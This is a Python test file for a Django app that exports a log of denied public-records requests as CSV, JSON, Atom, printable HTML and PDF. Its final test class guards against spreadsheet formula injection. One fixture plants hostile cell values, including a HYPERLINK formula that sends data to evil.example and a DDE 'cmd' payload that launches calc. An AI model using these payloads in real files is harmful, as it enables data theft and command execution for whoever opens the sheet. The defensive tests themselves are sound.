"""CSV, JSON, Atom and PDF of the denial log, read back with standard parsers."""

import io
import json
from datetime import date

import pytest
from django.urls import reverse
from pypdf import PdfReader

from rtcc_requests.denials import exports
from rtcc_requests.denials.selectors import CHUNK_SIZE
from rtcc_requests.requests.choices import Deficiency
from rtcc_requests.requests.models import RecordsRequest
from tests import factories
from tests.support.builders import bulk_denials

from .parsing import ATOM, atom_entries, body, csv_rows

pytestmark = pytest.mark.django_db
TODAY = date(2026, 11, 26)
# The CSV's header. Changed on purpose when the log gained agency_received_on, officials and
# procedure_flags, appended so that a CSV read by column position keeps its old columns.
HEADER = [
    "request_id", "request_url", "title", "agency", "agency_slug", "agency_kind", "county",
    "law", "technologies", "filed_on", "received_on", "denial_date", "determination",
    "days_to_respond", "late", "days_late", "exemptions", "other_grounds", "official_name",
    "official_title", "official_named", "deficiencies", "letter_url", "agency_received_on",
    "officials", "procedure_flags",
]  # fmt: skip
EXTENSION_RULE = "Gov. Code §7922.535(b)-(c) [§6253(c)]"
FEE_RULE = (
    "Gov. Code §7922.530 [§6253(b)]; North County Parents Org. v. Dept. of Education (1994) "
    "23 Cal.App.4th 144; National Lawyers Guild v. City of Hayward (2020) 9 Cal.5th 488"
)
# Flags as a CSV cell shows them; a citation may hold "; " itself.
OVERLONG = f"Extension beyond the legal maximum ({EXTENSION_RULE})"
SEARCH_FEE = f"Charges for search, review or redaction time ({FEE_RULE})"


def _flag_text(flag: dict) -> str:
    return f"{flag['label']} ({flag['citation']})" if flag["citation"] else flag["label"]


@pytest.fixture
def flagged(make_denial):
    """Signed by two officials, after an over-long extension and a fee for search time."""
    return make_denial(
        title="Flagged on the way",
        agency=factories.AgencyFactory(name="Clovis PD", slug="clovis-pd"),
        exemptions=("§7927.500",),
        official_name="Ann Lee",
        official_title="Records Manager",
        more_officials=[("Bo Diaz", "City Attorney")],
        received=date(2026, 3, 2),
        days=20,
        earlier=[
            {"kind": "extension", "days": 5, "extension_date": date(2026, 4, 30),
             "extension_ground": "voluminous"},
            {"kind": "fee_estimate", "days": 8, "fee_amount": 40, "fee_basis": ["search"]},
        ],
    )  # fmt: skip


@pytest.fixture
def late_catch_all(make_denial):
    return make_denial(
        title='Late "catch-all", with commas',
        agency=factories.AgencyFactory(name="Fresno PD", slug="fresno-pd"),
        technologies=("predictive-policing", "automated-license-plate-readers"),
        exemptions=("§7922.000", "§7927.705"),
        official_name="",
        official_title="",
        received=date(2026, 3, 2),
        days=20,
    )


class TestCsv:
    def test_streams_one_row_per_denial_with_the_documented_columns(self, client, late_catch_all):
        response = client.get(reverse("denials:csv"))
        assert response.streaming
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert 'filename="denials.csv"' in response["Content-Disposition"]
        text = body(response)
        assert text.splitlines()[0].split(",") == list(exports.FIELDS) == HEADER
        [row] = csv_rows(text)
        assert row["title"] == 'Late "catch-all", with commas'
        assert row["agency"] == "Fresno PD"
        assert row["technologies"] == "Automated License Plate Readers; Predictive Policing"
        assert row["filed_on"] == row["received_on"] == "2026-03-02"
        assert row["denial_date"] == "2026-03-22"
        assert row["days_to_respond"] == "20"
        assert (row["late"], row["days_late"]) == ("true", "10")
        assert row["exemptions"].startswith("§7922.000 [§6255(a)] Public interest balancing")
        assert "§7927.705 [§6254(k)]" in row["exemptions"]
        assert row["official_named"] == "false"
        assert row["officials"] == ""
        assert (
            "Names no responsible official and title (Gov. Code §7922.540(a) [§6253(d)])"
            in row["deficiencies"]
        )
        assert row["procedure_flags"] == ""
        assert row["request_url"].endswith(f"/requests/{late_catch_all.pk}/")

    def test_carries_every_official_and_the_procedure_flags_with_their_citations(
        self, client, flagged
    ):
        [row] = csv_rows(body(client.get(reverse("denials:csv"))))
        assert (row["official_name"], row["official_title"]) == ("Ann Lee", "Records Manager")
        assert row["officials"] == "Ann Lee, Records Manager; Bo Diaz, City Attorney"
        assert row["official_named"] == "true"
        assert row["procedure_flags"] == f"{OVERLONG}; {SEARCH_FEE}"
        assert row["deficiencies"] == ""  # the denial itself is lawful

    def test_every_csv_cell_is_its_json_value(self, client, late_catch_all, make_denial, flagged):
        make_denial(title="Partial, on time", kind="partial", days=3, letter="public")
        by_id = {r["request_id"]: r for r in json.loads(body(client.get("/denials.json")))["rows"]}
        rows = csv_rows(body(client.get(reverse("denials:csv"))))
        assert len(rows) == len(by_id) == 3
        for row in rows:
            data = by_id[int(row["request_id"])]
            for field in exports.FIELDS:
                value = data[field]
                if field == "exemptions":
                    value = "; ".join(
                        " ".join(filter(None, (e["section"], e["former_section"] and
                                                f"[{e['former_section']}]", e["short_name"])))
                        for e in value
                    )  # fmt: skip
                elif field in ("deficiencies", "procedure_flags"):
                    value = "; ".join(map(_flag_text, value))
                elif field == "officials":
                    value = "; ".join(", ".join(filter(None, o.values())) for o in value)
                elif isinstance(value, list):
                    value = "; ".join(value)
                elif isinstance(value, bool):
                    value = str(value).lower()
                assert row[field] == ("" if value is None else str(value)), field

    def test_rows_across_chunks_keep_their_own_lists(self, client):
        made = bulk_denials(count=CHUNK_SIZE + 50, today=TODAY)
        rows = csv_rows(body(client.get(reverse("denials:csv"))))
        assert len(rows) == CHUNK_SIZE + 50
        expected = {
            r.pk: name
            for r, name in zip(
                made,
                RecordsRequest.technologies.through.objects.filter(recordsrequest__in=made)
                .order_by("recordsrequest_id")
                .values_list("technology__name", flat=True),
                strict=True,
            )
        }
        for row in rows:
            assert row["technologies"] == expected[int(row["request_id"])]
            assert row["exemptions"]


class TestJson:
    def test_documents_its_fields_and_uses_them_as_keys(self, client, late_catch_all):
        data = json.loads(body(client.get(reverse("denials:json") + "?agency=fresno-pd")))
        assert data["count"] == 1
        assert data["filters"] == {"agency": "fresno-pd"}
        assert data["generated_on"] == "2026-11-26"
        [row] = data["rows"]
        assert list(row) == list(data["fields"]) == list(exports.FIELDS)
        assert all(data["fields"].values())
        assert row["denial_date"] == "2026-03-22"
        assert row["determination"] == "denial"
        assert row["late"] is True and row["official_named"] is False
        assert row["exemptions"][0] == {
            "section": "§7922.000",
            "former_section": "§6255(a)",
            "short_name": 'Public interest balancing ("catch-all")',
        }
        assert {
            "code": "no_official",
            "label": "Names no responsible official and title",
            "citation": "Gov. Code §7922.540(a) [§6253(d)]",
        } in row["deficiencies"]
        assert row["officials"] == [] and row["procedure_flags"] == []
        assert row["agency_received_on"] is None

    def test_lists_the_officials_and_the_procedure_flags_as_objects(self, client, flagged):
        [row] = json.loads(body(client.get(reverse("denials:json"))))["rows"]
        assert row["officials"] == [
            {"name": "Ann Lee", "title": "Records Manager"},
            {"name": "Bo Diaz", "title": "City Attorney"},
        ]
        assert row["official_name"] == "Ann Lee"  # the first official, as before
        assert row["procedure_flags"] == [
            {
                "code": "extension_overlong",
                "label": "Extension beyond the legal maximum",
                "citation": EXTENSION_RULE,
            },
            {
                "code": "fee_not_chargeable",
                "label": "Charges for search, review or redaction time",
                "citation": FEE_RULE,
            },
        ]
        assert row["deficiencies"] == []

    def test_flags_under_another_law_carry_no_citation(self, client, make_denial):
        make_denial(title="Federal", law="us-foia", exemptions=(), official_name="")
        [row] = json.loads(body(client.get(reverse("denials:json"))))["rows"]
        assert {f["code"] for f in row["deficiencies"]} >= {"no_official", "no_exemption"}
        assert all(f["citation"] == "" for f in row["deficiencies"])
        [line] = csv_rows(body(client.get(reverse("denials:csv"))))
        assert "Cites no exemption" in line["deficiencies"] and "(" not in line["deficiencies"]

    def test_the_field_docs_name_every_flag_code(self):
        documented = exports.FIELDS["deficiencies"] + exports.FIELDS["procedure_flags"]
        assert [code for code in Deficiency.values if code not in documented] == []

    def test_a_long_export_is_one_valid_document(self, client):
        bulk_denials(count=450, today=TODAY)
        data = json.loads(body(client.get(reverse("denials:json"))))
        assert data["count"] == len(data["rows"]) == 450
        assert len({r["request_id"] for r in data["rows"]}) == 450

    def test_an_empty_filter_is_still_a_json_document(self, client, late_catch_all):
        data = json.loads(body(client.get(reverse("denials:json") + "?late=no")))
        assert data["rows"] == [] and data["count"] == 0


class TestAtom:
    def test_entries_link_to_the_request_pages(self, client, late_catch_all, settings):
        response = client.get(reverse("denials:atom"))
        assert response["Content-Type"].startswith("application/atom+xml")
        [entry] = atom_entries(body(response))
        assert entry.find(f"{ATOM}title").text == (
            'Fresno PD denied: Late "catch-all", with commas'
        )
        link = entry.find(f"{ATOM}link").get("href")
        assert link == f"{settings.SITE_URL}/requests/{late_catch_all.pk}/"
        assert entry.find(f"{ATOM}updated").text.startswith("2026-03-22")
        summary = entry.find(f"{ATOM}summary").text
        assert "No responsible official named" in summary
        assert "§7922.000" in summary
        assert "Came after the deadline (Gov. Code §7922.535(a) [§6253(c)])" in summary

    def test_summary_names_every_official_and_the_procedure_flags(self, client, flagged):
        [entry] = atom_entries(body(client.get(reverse("denials:atom"))))
        summary = entry.find(f"{ATOM}summary").text
        assert "Responsible officials: Ann Lee, Records Manager; Bo Diaz, City Attorney" in summary
        assert f"Extensions, dates and fees: {OVERLONG}; {SEARCH_FEE}" in summary

    def test_carries_the_newest_entries_of_the_filter(self, client):
        bulk_denials(count=exports.FEED_ENTRIES + 20, today=TODAY)
        entries = atom_entries(body(client.get(reverse("denials:atom") + "?sort=title")))
        assert len(entries) == exports.FEED_ENTRIES
        dates = [e.find(f"{ATOM}updated").text for e in entries]
        assert dates == sorted(dates, reverse=True)


class TestPrintAndPdf:
    def test_printable_page_and_pdf_show_the_filtered_rows(self, client, late_catch_all):
        html = body(client.get(reverse("denials:print") + "?agency=fresno-pd"))
        assert "Agency: Fresno PD" in html
        assert "None named" in html
        response = client.get(reverse("denials:pdf") + "?agency=fresno-pd")
        assert response["Content-Type"] == "application/pdf"
        pdf = b"".join(response.streaming_content)
        text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages)
        assert "Late" in text and "catch-all" in text
        assert "Fresno PD" in text

    def test_printable_page_lists_the_officials_and_every_flag_with_its_citation(
        self, client, flagged
    ):
        html = body(client.get(reverse("denials:print")))
        assert "Ann Lee, Records Manager" in html and "Bo Diaz, City Attorney" in html
        assert "Extensions, dates and fees:" in html
        assert (
            f'Extension beyond the legal maximum <span class="cite">{EXTENSION_RULE}</span>' in html
        )


class TestCsvCellsASpreadsheetWouldRun:
    """A requester's text is never a live formula in /denials.csv (OWASP: prefix with ')."""

    @pytest.fixture
    def hostile(self, make_denial):
        denied = make_denial(
            title='=HYPERLINK("https://evil.example/?x="&A1,"Click")',
            agency=factories.AgencyFactory(name="@SUM(1+1) PD", county="-2+3"),
            official_name="\tTab Leader",
            official_title="\rCarriage Return",
            more_officials=[("-Minus", "=Chief")],
        )
        determination = denied.determinations.get()
        determination.other_exemptions = "+cmd|' /C calc'!A0"
        determination.save()  # the log's signals see it, as they see an edit
        return denied

    def test_text_cells_that_start_like_a_formula_get_a_leading_quote(self, client, hostile):
        [row] = csv_rows(body(client.get(reverse("denials:csv"))))
        assert row["title"] == "'" + '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
        assert row["agency"] == "'@SUM(1+1) PD"
        assert row["county"] == "'-2+3"
        assert row["other_grounds"].startswith("'+cmd|")
        assert row["official_name"] == "'\tTab Leader"
        assert row["official_title"] == "'\rCarriage Return"
        assert row["officials"].startswith("'\tTab Leader, ")
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())

    def test_json_carries_the_text_as_written(self, client, hostile):
        [row] = json.loads(body(client.get(reverse("denials:json"))))["rows"]
        assert row["title"] == '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
        assert row["agency"] == "@SUM(1+1) PD"
        assert row["other_grounds"] == "+cmd|' /C calc'!A0"
        assert row["officials"][1] == {"name": "-Minus", "title": "=Chief"}

    def test_numbers_and_dates_stay_machine_readable(self, client, hostile):
        [row] = csv_rows(body(client.get(reverse("denials:csv"))))
        assert int(row["request_id"]) == hostile.pk
        assert int(row["days_to_respond"]) == 7 and int(row["days_late"]) == 0
        assert date.fromisoformat(row["denial_date"]) == date(2026, 3, 9)
        assert row["request_url"].startswith("http")

    def test_the_field_docs_say_what_the_csv_does_and_that_json_is_raw(self, client):
        doc = exports.FIELDS["title"]
        assert "'" in doc and "formula" in doc and "JSON" in doc
        html = body(client.get(reverse("denials:log")))
        assert "formula" in html
